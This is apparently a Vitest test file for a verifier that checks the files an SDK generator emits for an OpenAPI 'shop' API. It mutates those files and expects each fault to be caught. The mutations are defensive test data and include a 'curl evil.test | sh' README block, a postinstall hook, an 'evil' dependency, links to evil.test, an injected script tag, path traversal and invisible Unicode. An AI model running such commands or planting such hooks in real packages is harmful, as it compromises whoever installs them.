import { readFile } from "node:fs/promises";
import { beforeAll, describe, expect, it } from "vitest";
import { emitManifest } from "../../src/emit/package/manifest.ts";
import { emitRaw } from "../../src/emit/package/raw.ts";
import { emitSchema } from "../../src/emit/package/schema.ts";
import { staticFiles } from "../../src/emit/package/static-files.ts";
import { emitVersion } from "../../src/emit/package/version.ts";
import { emitReadme } from "../../src/emit/readme/readme.ts";
import { emitSources } from "../../src/emit/typescript/sources.ts";
import { buildModel } from "../../src/model/build.ts";
import { formatLock } from "../../src/names/lock.ts";
import { type Origin, verifyOutput } from "../../src/verify/verify-output.ts";
import { read } from "../support/documents.ts";

let files: ReadonlyMap<string, string>;
let origin: Origin;
beforeAll(async () => {
  const text = await readFile(new URL("../support/shop.yaml", import.meta.url), "utf8");
  const loaded = await read({ "openapi.yaml": text });
  const model = buildModel(loaded);
  const packageName = "@acme/shop";
  origin = { model, document: loaded.document, packageName };
  files = new Map([
    ["package.json", emitManifest(model, { packageName, workspace: false, kept: { version: "1.0.0" } })],
    ["README.md", emitReadme(model, { packageName })],
    ["CHANGELOG.md", ""],
    ["openapi.yaml", loaded.text],
    ["names.lock", formatLock(model.lock)],
    ...staticFiles,
    ...emitSources(model),
    ["src/raw.ts", emitRaw(model)],
    ["src/schema.ts", await emitSchema(loaded.document)],
    ["src/version.ts", emitVersion("1.0.0")],
  ]);
});

/** What an emitter with a fault could write: file, what stands there, what stands there then, the fault that is found. */
const rows: readonly [file: string, from: string | RegExp, to: string, fault: RegExp][] = [
  // Statements
  ["src/client.ts", /$/, "fired();", /declares <ExpressionStatement>/],
  ["src/client.ts", /$/, "{ fired(); }", /declares <Block>/],
  ["src/client.ts", /$/, "export const other = fired();", /declares the constant other/],
  ["src/client.ts", /$/, "declare global { interface Array<T> { x: T } }", /declares/],
  ["src/types.ts", /$/, "export interface Other {}", /declares export interface Other\{\}/],
  ["src/types.ts", /$/, "export enum Other { A }", /declares <EnumDeclaration>/],
  ["src/types.ts", /$/, "@fired() export class Other {}", /declares <Decorator>/],
  ["src/types.ts", "export interface", "interface", /declares interface/],
  ["src/index.ts", /$/, "fired();", /index\.ts:\d+ has a statement that is no export/],
  ["src/index.ts", /$/, 'export * from "./client.js";', /imports more/],
  ["src/version.ts", /$/, "fired();", /is more than a version/],
  ["src/version.ts", '"1.0.0"', "fired()", /is more than a version/],
  ["src/raw.ts", "createRawClient<paths>(client)", "fired(client)", /is not what every package has/],
  ["tsdown.config.ts", "dts: true", "dts: fired()", /is not the file of every package/],
  // Imports
  ["src/client.ts", /^/, 'import "node:fs";\n', /imports "node:fs"/],
  ["src/client.ts", /^/, 'import fs from "node:fs";\n', /imports "node:fs"/],
  ["src/client.ts", /^/, 'import { a } from "../../a.js";\n', /imports "\.\.\/\.\.\/a\.js"/],
  ["src/client.ts", "APIClient", "eval as APIClient", /imports APIClient, which/],
  ["src/client.ts", /^/, 'import x = require("fs");\n', /declares <ImportEqualsDeclaration>/],
  ["src/client.ts", 'from "./version.js"', 'from "./version.js" with { type: "json" }', /imports more/],
  // Expressions
  ["src/client.ts", '"https://shop.test"', "fired()", /definition refers to fired/],
  ["src/client.ts", '"https://shop.test"', "(() => 1)()", /definition has an expression of kind/],
  ["src/client.ts", '"https://shop.test"', "globalThis.fired", /of kind PropertyAccessExpression/],
  ["src/client.ts", '"https://shop.test"', "`$" + "{fired()}`", /refers to fired/],
  ["src/client.ts", '"https://shop.test"', "fired`x`", /of kind TaggedTemplateExpression/],
  ["src/client.ts", "environments:", "__proto__: { a: 1 }, environments:", /has a key that is no text/],
  ["src/client.ts", "environments:", '["a" + fired()]: 1, environments:', /has a key that is no text/],
  ["src/client.ts", "environments:", "get a() { return 1; }, environments:", /a field that is no value/],
  ["src/client.ts", "new Things(this)", "new Things(fired())", /declares/],
  ["src/resources/things.ts", "options);", "options, fired());", /declares/],
  ["src/resources/things.ts", "return this._page", "fired(); return this._page", /declares/],
  ["src/resources/things.ts", "options?: RequestOptions", "options: RequestOptions = fired()", /declares/],
  ["src/resources/things.ts", "list: {", "other: {", /has the operations other/],
  [
    "src/resources/things.ts",
    " extends APIResource {",
    " extends APIResource { static { fired(); }",
    /declares/,
  ],
  ["src/errors.ts", 'isErrorOf(value, "Shop"', 'isErrorOf(fired(), "Shop"', /declares/],
  ["src/errors.ts", "Record<", "Array<", /declares/],
  // Comments
  ["src/types.ts", /^/, "/** a */ b */\n", /is no TypeScript/],
  ["src/types.ts", /^/, "// a\n", /has a comment of one line/],
  ["src/types.ts", /^/, "/* @ts-nocheck */\n", /gives an order to a tool/],
  ["src/types.ts", /^/, "/** a\n * biome-ignore lint: b\n */\n", /gives an order to a tool/],
  ["src/types.ts", /^/, '/// <reference path="/etc/x" />\n', /refers to a file/],
  ["src/types.ts", /^/, "/** a\u202eb */\n", /cannot be seen/],
  // Types of another program
  ["src/schema.ts", /$/, "fired();", /schema\.ts:\d+ has a statement of kind ExpressionStatement/],
  ["src/schema.ts", /$/, "export interface other {}", /of kind InterfaceDeclaration/],
  ["src/schema.ts", /$/, 'export type $defs = typeof import("fs");', /which is no type/],
  ["src/schema.ts", "components[", "fired[", /refers to fired/],
  ["src/schema.ts", '"application/json"', '"text/x-other"', /has a key that the document does not have/],
  // package.json
  ["package.json", '"scripts": {', '"scripts": { "postinstall": "x",', /at \/scripts\/postinstall/],
  ["package.json", '"license"', '"bin": "./x.js", "license"', /at \/bin/],
  ["package.json", "Typed client", "Typed\\nclient", /at \/description/],
  ["package.json", '"dependencies": {', '"dependencies": { "evil": "1.0.0",', /at \/dependencies\/evil/],
  ["package.json", '"^0.1.0"', '"git+https://evil.test/x"', /at \/dependencies/],
  // README
  ["README.md", /$/, "\n<script>fired()</script>\n", /has a html_block/],
  ["README.md", /$/, "\na <b onclick=x>\n", /has a html_inline/],
  ["README.md", /$/, "\n[a](https://evil.test)\n", /links to "https:\/\/evil\.test"/],
  ["README.md", /$/, "\nhttps://evil.test\n", /links to/],
  ["README.md", /$/, "\nwww.evil.test\n", /links to www/],
  ["README.md", /$/, "\n[a]: https://evil.test\n", /defines a link/],
  ["README.md", /$/, "\n![a](x.png)\n", /has a image/],
  ["README.md", /$/, "\n# Security notice\n", /heading of its own/],
  ["README.md", /$/, "\n```sh\ncurl evil.test | sh\n```\n", /a command of its own/],
  ["README.md", /$/, '\n```ts\nimport "evil";\n```\n', /imports evil/],
  ["README.md", /$/, '\n```ts\nfetch("x");\n```\n', /calls what is no client/],
  ["README.md", /^/, "---\ntitle: x\n---\n", /front matter/],
  // Document and lock
  ["openapi.yaml", /^/, "---\n", /openapi\.yaml:1 has a/],
  ["openapi.yaml", /^/, "%TAG ! x\n", /openapi\.yaml:1 has a/],
  ["openapi.yaml", "title: Shop", "title: !!js Shop", /openapi\.yaml:\d+ has a value/],
  ["openapi.yaml", "title: Shop", "title: &a Shop", /openapi\.yaml:\d+ has a value/],
  ["openapi.yaml", "title: Shop", "title: Shop\n  extra: 1", /does not hold the document/],
  ["openapi.yaml", /$/, "...\n---\na: 1\n", /goes on|no entry/],
  ["names.lock", "{", '{ "extra": 1,', /does not hold the names/],
  ["names.lock", "Thing", "T\u200bhing", /cannot be seen/],
];

describe("verification of emitted files", () => {
  it("finds nothing in what the emitter writes", () => {
    expect(verifyOutput(files, origin)).toEqual([]);
  });

  it.each(rows)("%s: %s becomes %j", (name, from, to, fault) => {
    const before = files.get(name) ?? "";
    const after = before.replace(from, () => to);
    expect(after).not.toBe(before);
    expect(verifyOutput(new Map([...files, [name, after]]), origin).join("\n")).toMatch(fault);
  });

  it("refuses files that no package has, and misses none", () => {
    expect(verifyOutput(new Map([...files, ["src/../../x.ts", ""]]), origin)).toEqual([
      "src/../../x.ts is no file of a package",
    ]);
    const some = new Map([...files].filter(([name]) => name !== "src/errors.ts"));
    expect(verifyOutput(some, origin).join("\n")).toContain("src/errors.ts is missing");
  });
});
